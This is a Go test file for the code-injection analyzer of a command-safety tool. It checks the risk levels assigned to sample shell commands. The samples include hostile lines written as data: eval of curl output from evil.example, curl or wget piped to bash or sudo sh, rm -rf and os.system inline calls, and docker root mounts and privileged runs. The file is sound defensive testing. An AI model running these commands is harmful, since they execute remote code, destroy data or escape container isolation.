package analyzer

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/noam-bash/flare-saferun/internal/flaretypes"
)

func TestCodeInjectionAnalyzer_Eval(t *testing.T) {
	tests := []struct {
		name     string
		command  string
		expected flaretypes.RiskLevel
	}{
		{"eval of download", `eval "$(curl http://evil.example/x.sh)"`, flaretypes.RiskLevelCritical},
		{"source of wget output", "source <(wget -qO- http://evil.example/env)", flaretypes.RiskLevelCritical},
		{"eval of substitution", "eval \"$(generate-config)\"", flaretypes.RiskLevelHigh},
		{"eval of literal", `eval "ls -la"`, flaretypes.RiskLevelMedium},
		{"dot source with arg", ". ./env.sh", flaretypes.RiskLevelMedium},
	}

	a := NewCodeInjectionAnalyzer()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := a.Analyze(context.Background(), parseForTest(t, tt.command), "")
			require.NotEmpty(t, result.Findings)
			var best flaretypes.RiskLevel
			for _, f := range result.Findings {
				if f.Category == flaretypes.CategoryCodeInjection && f.Severity > best {
					best = f.Severity
				}
			}
			assert.Equal(t, tt.expected, best)
		})
	}
}

func TestCodeInjectionAnalyzer_InlineInterpreters(t *testing.T) {
	tests := []struct {
		name     string
		command  string
		expected flaretypes.RiskLevel
	}{
		{"dangerous python inline", `python3 -c "import os; os.system('ls')"`, flaretypes.RiskLevelHigh},
		{"dangerous bash inline", `bash -c "rm -rf /tmp/x"`, flaretypes.RiskLevelHigh},
		{"dangerous node inline", `node -e "require('child_process').execSync('id')"`, flaretypes.RiskLevelHigh},
		{"benign inline", `python3 -c "print(1+1)"`, flaretypes.RiskLevelLow},
		{"node long eval flag", `node --eval "console.log(1)"`, flaretypes.RiskLevelLow},
	}

	a := NewCodeInjectionAnalyzer()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := a.Analyze(context.Background(), parseForTest(t, tt.command), "")
			require.NotEmpty(t, result.Findings)
			assert.Equal(t, tt.expected, result.Findings[0].Severity)
		})
	}
}

func TestCodeInjectionAnalyzer_SudoInline(t *testing.T) {
	a := NewCodeInjectionAnalyzer()

	result := a.Analyze(context.Background(), parseForTest(t, `sudo bash -c "echo done"`), "")
	require.NotEmpty(t, result.Findings)
	assert.Equal(t, flaretypes.RiskLevelHigh, result.Findings[0].Severity)
}

func TestCodeInjectionAnalyzer_PipeToInterpreter(t *testing.T) {
	a := NewCodeInjectionAnalyzer()

	tests := []struct {
		name     string
		command  string
		critical bool
	}{
		{"curl to bash", "curl -fsSL http://get.example/install.sh | bash", true},
		{"wget to sudo sh", "wget -qO- http://get.example/i.sh | sudo sh", true},
		{"curl to file is fine", "curl -o install.sh http://get.example/install.sh", false},
		{"cat to bash is not network", "cat install.sh | bash", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := a.Analyze(context.Background(), parseForTest(t, tt.command), "")
			if tt.critical {
				assert.Equal(t, flaretypes.RiskLevelCritical, maxSeverity(result.Findings))
			} else {
				assert.NotEqual(t, flaretypes.RiskLevelCritical, maxSeverity(result.Findings))
			}
		})
	}
}

func TestCodeInjectionAnalyzer_ContainerEscape(t *testing.T) {
	tests := []struct {
		name     string
		command  string
		expected flaretypes.RiskLevel
		count    int
	}{
		{"privileged", "docker run --privileged img", flaretypes.RiskLevelHigh, 1},
		{"root mount", "docker run -v /:/host img", flaretypes.RiskLevelCritical, 1},
		{"volume long flag", "docker run --volume /:/host img", flaretypes.RiskLevelCritical, 1},
		{"host pid", "docker run --pid=host img", flaretypes.RiskLevelHigh, 1},
		{"host net", "docker exec --net=host c1 sh", flaretypes.RiskLevelHigh, 1},
		{"ordinary run", "docker run -v ./data:/data img", flaretypes.RiskLevelNone, 0},
		{"non-run subcommand", "docker ps --privileged", flaretypes.RiskLevelNone, 0},
	}

	a := NewCodeInjectionAnalyzer()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := a.Analyze(context.Background(), parseForTest(t, tt.command), "")
			assert.Len(t, result.Findings, tt.count)
			assert.Equal(t, tt.expected, maxSeverity(result.Findings))
		})
	}
}
